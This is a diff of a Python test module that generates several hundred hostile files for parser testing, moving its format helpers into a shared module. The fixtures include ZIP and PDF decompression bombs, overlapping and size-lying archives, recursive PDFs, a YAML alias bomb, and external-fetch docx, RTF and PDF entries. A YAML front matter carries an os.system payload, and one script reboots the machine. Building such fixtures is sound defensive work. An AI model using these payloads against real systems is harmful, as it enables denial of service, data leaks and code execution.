@@ -1,25 +1,33 @@
-"""Three hundred files that nobody should open: fuzzed, bombs, nested too deep, of another kind, with tricks (恶意文件)."""
+"""Three hundred files that nobody should open: fuzzed, bombs, nested, of another kind, with tricks (恶意文件)."""
 
 from __future__ import annotations
 
 import io
 import random
 import stat
-import struct
 import zipfile
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 
-from reportlab.pdfbase import pdfmetrics
-from reportlab.pdfbase.cidfonts import UnicodeCIDFont
-from reportlab.pdfgen.canvas import Canvas
+from tests.hostile.making import (
+    MAKERS,
+    OLE,
+    RELATIONS,
+    claimed,
+    deflated,
+    docx,
+    html,
+    lines,
+    mutated,
+    odt,
+    overlapping,
+    pdf,
+    pdf_of,
+    rtf,
+    stream,
+    txt,
+    zipped,
+)
 
-from tests.corpus.making import sentences
-
-_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
-_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
-_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 _BOMB = 20 * 1024**2
 
 Files = Iterator[tuple[str, bytes]]
@@ -37,161 +45,6 @@ def hostile_files(secret: str, address: str) -> dict[str, bytes]:
         found |= dict(kind())
     found |= dict(_entities(secret, address))
     return found
-
-
-def lines(seed: int) -> list[str]:
-    """The lines of a small speech like no other of another seed."""
-    return [
-        f"在第{seed}次工作会议上的讲话",
-        "同志们：",
-        "一、提高认识",
-        sentences(seed, 3),
-        "二、狠抓落实",
-        sentences(seed + 5000, 3),
-    ]
-
-
-# Small files that are in order.
-
-
-def txt(seed: int) -> bytes:
-    """A text file."""
-    return "\n".join(lines(seed)).encode()
-
-
-def html(seed: int) -> bytes:
-    """A web page."""
-    title, *rest = lines(seed)
-    body = "".join(f"<p>{line}</p>" for line in rest)
-    return f"<!doctype html><html><head><title>x</title></head><body><h1>{title}</h1>{body}</body></html>".encode()
-
-
-def md(seed: int) -> bytes:
-    """Markdown with a front matter."""
-    title, *rest = lines(seed)
-    return f"---\ntitle: {title}\nyear: 2024\n---\n# {title}\n\n{chr(10).join(rest)}".encode()
-
-
-def rtf(seed: int) -> bytes:
-    """Rich text with every character escaped."""
-    body = "\\par\n".join(
-        "".join(f"\\u{ord(char) if ord(char) < 32768 else ord(char) - 65536}?" for char in line) for line in lines(seed)
-    )
-    return b"{\\rtf1\\ansi\\ansicpg936\\deff0{\\fonttbl{\\f0 SimSun;}}" + body.encode() + b"}"
-
-
-def docx(seed: int, body: str | None = None, *, prolog: str = "", more: dict[str, bytes] | None = None) -> bytes:
-    """A Word document of the least parts; ``body`` is XML."""
-    if body is None:
-        body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines(seed))
-    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
-    parts = {
-        "[Content_Types].xml": (
-            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-            f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
-        ).encode(),
-        "_rels/.rels": (
-            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
-        ).encode(),
-        "word/document.xml": f'{prolog}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'.encode(),
-    }
-    return zipped(parts | (more or {}))
-
-
-def odt(seed: int, body: str | None = None, *, prolog: str = "") -> bytes:
-    """An OpenDocument text of the least parts; ``body`` is XML."""
-    if body is None:
-        body = "".join(f"<text:p>{line}</text:p>" for line in lines(seed))
-    kind = "application/vnd.oasis.opendocument.text"
-    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
-    return zipped(
-        {
-            "mimetype": kind.encode(),
-            "META-INF/manifest.xml": (
-                f'<m:manifest xmlns:m="{manifest}"><m:file-entry m:full-path="/" m:media-type="{kind}"/>'
-                '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
-            ).encode(),
-            "content.xml": (
-                f'{prolog}<office:document-content xmlns:office="{_OFFICE}" xmlns:text="{_TEXT}" office:version="1.2">'
-                f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
-            ).encode(),
-        }
-    )
-
-
-def pdf(seed: int) -> bytes:
-    """A PDF of two pages."""
-    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
-    out = io.BytesIO()
-    canvas = Canvas(out, invariant=1)
-    text = lines(seed)
-    for page in (text[:3], text[3:]):
-        canvas.setFont("STSong-Light", 12)
-        printed = [line[start : start + 30] for line in page for start in range(0, len(line), 30)]
-        for number, line in enumerate(printed):
-            canvas.drawString(72, 780 - 20 * number, line)
-        canvas.showPage()
-    canvas.save()
-    return out.getvalue()
-
-
-def doc(seed: int) -> bytes:
-    """The least of a Word 97 file: its signature, a header and a directory with one stream."""
-    header = bytearray(512)
-    header[:8] = _OLE
-    struct.pack_into("<H", header, 0x1E, 9)
-    entry = bytearray(512)
-    name = "WordDocument\0".encode("utf-16-le")
-    entry[: len(name)] = name
-    return bytes(header) + random.Random(seed).randbytes(512) + bytes(entry)
-
-
-def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
-    """An archive of these members."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", method) as archive:
-        for name, content in parts.items():
-            info = zipfile.ZipInfo(name)
-            info.compress_type = method
-            archive.writestr(info, content)
-    return out.getvalue()
-
-
-MAKERS: dict[str, Callable[[int], bytes]] = {
-    "txt": txt, "html": html, "md": md, "rtf": rtf, "docx": docx, "odt": odt, "pdf": pdf, "doc": doc,
-    "zip": lambda seed: zipped({"一.txt": txt(seed), "二.docx": docx(seed + 1), "三/四.html": html(seed + 2)}),
-}  # fmt: skip
-
-
-# What is done to them.
-
-
-def mutated(data: bytes, chance: random.Random) -> bytes:
-    """``data`` with bits turned over, an end cut off, or pieces of it moved, doubled, blanked or replaced."""
-    changed = bytearray(data)
-    for _ in range(chance.choice((1, 1, 2, 5))):
-        at, length = chance.randrange(len(changed) or 1), chance.choice((1, 4, 40, 400))
-        match chance.randrange(7):
-            case 0:
-                for _ in range(chance.choice((1, 8, 64))):
-                    changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
-            case 1:
-                del changed[max(at, 1) :]
-            case 2:
-                changed[at:at] = chance.randbytes(length)
-            case 3:
-                changed[at : at + length] = bytes(length)
-            case 4:
-                changed[at:at] = changed[: chance.randrange(len(changed))]
-            case 5:
-                del changed[at : at + length]
-            case _:
-                changed[at : at + 4] = struct.pack("<I", chance.choice((0, 2**31, 2**32 - 1, 1)))
-        if not changed:
-            return b"\0"
-    return bytes(changed)
 
 
 def _fuzzed() -> Files:
@@ -235,16 +88,16 @@ def _bombs() -> Files:
     yield "弹-多.docx", docx(2, more={f"x/{number}.xml": b"" for number in range(2_500)})
     yield "弹-目录.zip", zipped({f"{number}/": b"" for number in range(3_000)})
     yield "弹-同文.zip", zipped({f"{number}.txt": text for number in range(12)})
-    yield "弹-叠.zip", _overlapping(zipped({"文.txt": b"a" * 100_000}), 8)
-    yield "弹-叠大.zip", _overlapping(zipped({"文.txt": b" " * 4_000_000}), 300)
+    yield "弹-叠.zip", overlapping(zipped({"文.txt": b"a" * 100_000}), 8)
+    yield "弹-叠大.zip", overlapping(zipped({"文.txt": b" " * 4_000_000}), 300)
     for number, size in enumerate((0, 10, 2**31, 2**32 - 1)):
-        yield f"弹-谎{number}.zip", _claimed(zipped({"白.txt": b" " * 3_000_000, "文.txt": txt(30_040 + number)}), size)
-        yield f"弹-谎{number}.docx", _claimed(docx(30_050 + number, more={"word/x.xml": b" " * 3_000_000}), size)
-    lying = _claimed(zipped({"内.zip": b" " * _BOMB}), 10)
+        yield f"弹-谎{number}.zip", claimed(zipped({"白.txt": b" " * 3_000_000, "文.txt": txt(30_040 + number)}), size)
+        yield f"弹-谎{number}.docx", claimed(docx(30_050 + number, more={"word/x.xml": b" " * 3_000_000}), size)
+    lying = claimed(zipped({"内.zip": b" " * _BOMB}), 10)
     yield "弹-谎套.zip", zipped({"甲.txt": txt(30_060), "乙.zip": lying, "丙.txt": txt(30_061)})
     yield "弹-字.txt", "要抓落实。".encode() * 450_000
-    yield "弹-页.pdf", _pdf_objects(b"<</Type/Pages/Count 99999999/Kids[3 0 R]>>", _PAGE)
-    yield "弹-流.pdf", _pdf_objects(_PAGES, _PAGE, _deflated(b" " * _BOMB))
+    yield "弹-页.pdf", pdf_of(b"<</Type/Pages/Count 99999999/Kids[3 0 R]>>", _PAGE)
+    yield "弹-流.pdf", pdf_of(_PAGES, _PAGE, deflated(b" " * _BOMB))
     yield "弹-bz2.zip", zipped({"白.txt": b" " * 5_000_000}, zipfile.ZIP_BZIP2)
     yield "弹-lzma.zip", zipped({"白.txt": b" " * 5_000_000}, zipfile.ZIP_LZMA)
 
@@ -267,17 +120,17 @@ def _nested() -> Files:
         yield f"深-{depth}.txt", ("（" * depth + "一、" * 50 + "）" * depth).encode()
     yield "深-行.odt", odt(1, "<text:p>" + "<text:span>" * 250 + "文" + "</text:span>" * 250 + "</text:p>")
     yield "深-空.odt", odt(1, f'<text:p>要<text:s text:c="{10**9}"/>抓</text:p>')
-    yield "深-己.pdf", _pdf_objects(b"<</Type/Pages/Count 1/Kids[2 0 R]>>", _PAGE)
+    yield "深-己.pdf", pdf_of(b"<</Type/Pages/Count 1/Kids[2 0 R]>>", _PAGE)
     yield (
         "深-环.pdf",
-        _pdf_objects(b"<</Type/Pages/Count 2/Kids[3 0 R 3 0 R]>>", b"<</Type/Pages/Parent 3 0 R/Kids[2 0 R]/Count 9>>"),
+        pdf_of(b"<</Type/Pages/Count 2/Kids[3 0 R 3 0 R]>>", b"<</Type/Pages/Parent 3 0 R/Kids[2 0 R]/Count 9>>"),
     )
-    yield "深-表单.pdf", _pdf_objects(
-        _PAGES, _PAGE[:-2] + b"/Resources<</XObject<</F 5 0 R>>>>>>", _stream(b"/F Do"),
+    yield "深-表单.pdf", pdf_of(
+        _PAGES, _PAGE[:-2] + b"/Resources<</XObject<</F 5 0 R>>>>>>", stream(b"/F Do"),
         b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 5>>stream\n/F Do\nendstream",
     )  # fmt: skip
-    yield "深-括.pdf", _pdf_objects(_PAGES, _PAGE, _stream(b"[" * 100_000))
-    yield "深-典.pdf", _pdf_objects(_PAGES, b"<</A" * 20_000 + b">>" * 20_000)
+    yield "深-括.pdf", pdf_of(_PAGES, _PAGE, stream(b"[" * 100_000))
+    yield "深-典.pdf", pdf_of(_PAGES, b"<</A" * 20_000 + b">>" * 20_000)
     yield "深-回.md", b"---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n" + b"".join(
         b"%c: &%c [%s]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(1, 12)
     ) + b"title: *m\ndate: *m\n---\n" + txt(31_000)  # fmt: skip
@@ -311,7 +164,7 @@ def _wrong_kinds() -> Files:
         yield f"改名.{ending}", other(32_000 + len(ending) * 10 + ord(ending[0]))
     for ending in ("docx", "odt", "pdf", "doc", "rtf", "html", "zip", "txt", "md"):
         yield f"空.{ending}", b""
-    yield "病.docm", docx(1, more={"word/vbaProject.bin": _OLE})
+    yield "病.docm", docx(1, more={"word/vbaProject.bin": OLE})
     yield "本.sh", b"#!/bin/sh\nreboot\n"
     yield "没有扩展名", txt(1)
 
@@ -348,8 +201,8 @@ def _entities(secret: str, address: str) -> Files:
     )
     yield "外-链.docx", docx(33_001, more={"word/_rels/document.xml.rels": (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="r1" Type="{_R}/attachedTemplate" Target="http://{address}/x.dotm" TargetMode="External"/>'
-        f'<Relationship Id="r2" Type="{_R}/image" Target="file://{secret}" TargetMode="External"/></Relationships>').encode()})  # fmt: skip
+        f'<Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="http://{address}/x.dotm" TargetMode="External"/>'
+        f'<Relationship Id="r2" Type="{RELATIONS}/image" Target="file://{secret}" TargetMode="External"/></Relationships>').encode()})  # fmt: skip
     yield (
         "外-域.rtf",
         b'{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT "'
@@ -360,9 +213,7 @@ def _entities(secret: str, address: str) -> Files:
     )
     yield (
         "外-动.pdf",
-        _pdf_objects(
-            _PAGES, _PAGE[:-2] + b"/AA<</O<</S/URI/URI(http://" + address.encode() + b"/)>>>>>>", _stream(b"")
-        ),
+        pdf_of(_PAGES, _PAGE[:-2] + b"/AA<</O<</S/URI/URI(http://" + address.encode() + b"/)>>>>>>", stream(b"")),
     )
     yield "外-前.md", f"---\ntitle: !!python/object/apply:os.system ['touch {secret}']\n---\n{words}".encode()
 
@@ -464,50 +315,3 @@ def _names() -> Files:
             name,
             txt(36_000 + number) if name.lower().endswith("txt") else MAKERS[name.rpartition(".")[2]](36_000 + number),
         )
-
-
-# Pieces of formats.
-
-
-def _overlapping(data: bytes, count: int) -> bytes:
-    """An archive whose directory names its one member ``count`` times."""
-    start = data.index(b"PK\1\2")
-    end = data.index(b"PK\5\6")
-    entry = data[start:end]
-    closing = bytearray(data[end:])
-    struct.pack_into("<HHI", closing, 8, count, count, len(entry) * count)
-    return data[:start] + entry * count + bytes(closing)
-
-
-def _claimed(data: bytes, size: int) -> bytes:
-    """An archive whose largest member is said to have another size."""
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        large = max(archive.infolist(), key=lambda info: info.file_size)
-        name, real = large.filename.encode(), struct.pack("<I", large.file_size)
-        local = large.header_offset
-    changed = bytearray(data)
-    changed[local + 22 : local + 26] = struct.pack("<I", size)
-    at = changed.index(b"PK\1\2")
-    while changed[at + 46 : at + 46 + len(name)] != name or changed[at + 24 : at + 28] != real:
-        at = changed.index(b"PK\1\2", at + 1)
-    changed[at + 24 : at + 28] = struct.pack("<I", size)
-    return bytes(changed)
-
-
-def _pdf_objects(*objects: bytes) -> bytes:
-    """A PDF of these objects, from number 2 on; the first is a catalogue. Its table is for the reader to mend."""
-    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, held) for number, held in enumerate(objects, start=2))
-    return (
-        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n" + body + b"trailer<</Root 1 0 R/Size 9>>\n%%EOF"
-    )
-
-
-def _stream(content: bytes) -> bytes:
-    return b"<</Length %d>>stream\n%s\nendstream" % (len(content), content)
-
-
-def _deflated(content: bytes) -> bytes:
-    import zlib
-
-    packed = zlib.compress(content, 9)
-    return b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
